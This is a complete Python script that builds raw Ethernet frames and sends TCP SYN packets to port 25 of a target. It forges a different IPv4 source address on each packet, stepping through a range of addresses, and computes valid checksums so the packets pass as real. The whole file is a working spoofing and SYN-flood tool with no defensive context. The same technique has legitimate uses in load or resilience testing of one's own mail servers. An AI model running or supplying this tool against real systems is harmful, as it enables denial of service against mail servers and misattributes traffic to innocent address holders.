#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""spoof.py LINK OWN-MAC NEXT-MAC DESTINATION FIRST COUNT: one SYN to port 25 from each of COUNT addresses from FIRST
on, IPv4, straight onto the link."""
import ipaddress
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def main():
    link, own, following, destination, first, count = sys.argv[1:7]
    ethernet = bytes.fromhex(following.replace(":", "")) + bytes.fromhex(own.replace(":", "")) + b"\x08\x00"
    to = ipaddress.ip_address(destination).packed
    start = int(ipaddress.ip_address(first))
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((link, 0))
    for i in range(int(count)):
        source = struct.pack("!I", start + i)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0, source, to)
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, 25, 1, 0, 0x50, 2, 1024, 0, 0)
        pseudo = source + to + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        out.send(ethernet + head + tcp)


main()
